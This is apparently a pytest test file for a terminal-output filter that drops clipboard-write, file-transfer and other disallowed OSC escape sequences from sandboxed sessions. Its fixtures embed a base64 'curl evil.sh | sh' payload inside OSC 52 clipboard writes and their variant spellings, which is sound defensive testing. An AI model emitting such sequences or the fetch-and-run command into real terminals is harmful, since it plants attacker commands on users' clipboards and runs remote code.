"""A sandboxed session's output relayed with only the OSCs a screen uses (executor/terminals/osc.py): a clipboard
write (52, in any spelling a terminal reads as 52), a file transfer and every other OSC dropped whole, with any of
their ends, however the reads split them; every other byte (text, CSI, a title, a link, a colour query) passes as it
came."""

from __future__ import annotations

import pytest

from executor.terminals.osc import OscFilter

B64 = b"Y3VybCBldmlsLnNoIHwgc2g="  # "curl evil.sh | sh"
DROPPED = {
    "52 bel": b"\x1b]52;c;" + B64 + b"\x07",
    "52 st": b"\x1b]52;p;Y3VybA==\x1b\\",
    "052": b"\x1b]052;c;" + B64 + b"\x07",  # tmux reads the number digit by digit: 52
    "0000052": b"\x1b]0000052;c;" + B64 + b"\x07",
    "c1 introducer": b"\xc2\x9d52;c;" + B64 + b"\xc2\x9c",
    "iterm2 file": b"\x1b]1337;File=name=eA==;inline=0:" + B64 + b"\x07",
    "kitty clipboard": b"\x1b]5522;type=write;" + B64 + b"\x1b\\",
    "no number": b"\x1b]L" + B64 + b"\x07",
    "cancelled": b"\x1b]52;c;" + B64 + b"\x18",
}
KEPT = (b"before \x1b[1mbold\x1b[0m \x1b]0;a title\x07 \x1b]8;;https://x\x1b\\link\x1b]8;;\x1b\\ "
        b"\x1b]11;?\x07\x1b]104\x07\xc2\xa2 \xc3\xa9 \x1b]133;A\x1b\\ after\x1b")


def _relayed(chunks: list[bytes]) -> bytes:
    f = OscFilter()
    return b"".join(f.feed(c) for c in chunks)


@pytest.mark.parametrize("osc", DROPPED.values(), ids=DROPPED.keys())
def test_an_osc_not_allowed_is_dropped_wherever_the_reads_split_it(osc: bytes) -> None:
    stream = b"one " + osc + b"two " + osc + b"\x1b[2J three"
    expected = b"one two \x1b[2J three"
    assert _relayed([stream]) == expected
    for cut in range(1, len(stream)):
        assert _relayed([stream[:cut], stream[cut:]]) == expected, cut
    assert _relayed([bytes([b]) for b in stream]) == expected  # a byte a read


def test_everything_else_passes_as_it_came_in_any_split() -> None:
    assert _relayed([KEPT[:-1]]) == KEPT[:-1]
    for cut in range(1, len(KEPT)):
        relayed = _relayed([KEPT[:cut], KEPT[cut:]])
        assert relayed == KEPT[:-1], cut  # a lone ESC at the very end waits for what follows it
    f = OscFilter()
    assert f.feed(b"\x1b") == b"" and f.feed(b"[A") == b"\x1b[A"
    assert OscFilter().feed(b"plain text, no escape") == b"plain text, no escape"


def test_a_number_too_long_to_be_allowed_is_not_held_back_without_end() -> None:
    f = OscFilter()
    assert f.feed(b"\x1b]" + b"0" * 20) == b""  # decided (dropped) without waiting for more digits
    assert f.held == b"" and f.dropping
    assert f.feed(b"1;x\x07 after") == b" after"
